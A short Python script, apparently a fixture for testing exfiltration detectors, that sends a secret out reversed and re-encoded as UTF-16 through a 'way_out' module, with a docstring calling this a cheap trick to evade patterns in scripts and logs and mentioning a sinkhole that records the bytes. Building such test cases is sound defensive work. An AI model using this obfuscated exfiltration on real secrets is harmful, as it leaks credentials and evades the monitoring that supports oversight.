#!/usr/bin/python3
"""
Trick: Sends a secret backwards, as UTF-16.
Known from: string reversal, the cheapest trick against patterns in scripts and logs.
First: the sinkhole's record of the bytes, decoded
Second: read-then-sent, where the value came from a file
"""

from way_out import post, secret

post(secret()[::-1].decode().encode("utf-16-le"))
print("performed")
